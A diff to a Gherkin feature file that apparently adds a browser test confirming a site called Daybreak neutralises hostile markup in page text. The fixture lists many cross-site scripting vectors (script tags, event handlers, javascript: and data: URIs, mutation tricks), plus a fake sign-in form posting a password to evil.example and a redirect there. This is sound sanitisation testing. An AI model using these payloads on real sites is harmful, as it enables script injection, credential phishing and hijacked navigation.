@@ -30,6 +30,35 @@ Feature: A page of text
     And "There" cannot be pressed
     And the tab is titled "Guest Book · Daybreak"
 
+  @CAT-24 @API-07 @browser
+  Scenario: Nothing that a text contains runs a script, sends a form or leads away
+    Given the description of the page "About Daybreak" is:
+      """
+      This much is harmless.
+
+      <script>document.title = 'taken over'</script>
+      <img src=x onerror="document.title = 'taken over'">
+      <svg/onload="document.title = 'taken over'">
+      <svg><script href="data:text/javascript,document.title='taken over'"/></svg>
+
+      <a href="javascript:document.title='taken over'">press</a> <a href="java
+      script:document.title='taken over'">press</a> [press](javascript:alert(1)) ![picture](x" onerror="alert(1))
+
+      > *A member* <script>document.title = 'taken over'</script>
+
+      <iframe srcdoc="<script>parent.document.title = 'taken over'</script>"></iframe>
+      <form action="https://evil.example"><input name=password><button>Sign in</button></form>
+      <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
+      <object data="data:text/html,<script>alert(1)</script>"></object>
+      <div style="position:fixed;inset:0" onmouseover="document.title = 'taken over'">x</div>
+      <template><script>document.title = 'taken over'</script></template>
+      <math><mtext><style><img src=x onerror="document.title = 'taken over'"></style></mtext></math>
+      """
+    When they open the page "About Daybreak"
+    Then the page says "This much is harmless."
+    And the page contains no active markup
+    And the tab is titled "About Daybreak · Daybreak"
+
   @CAT-24 @browser
   Scenario: Links that do no harm are there
     When they open the page "Guest Book"
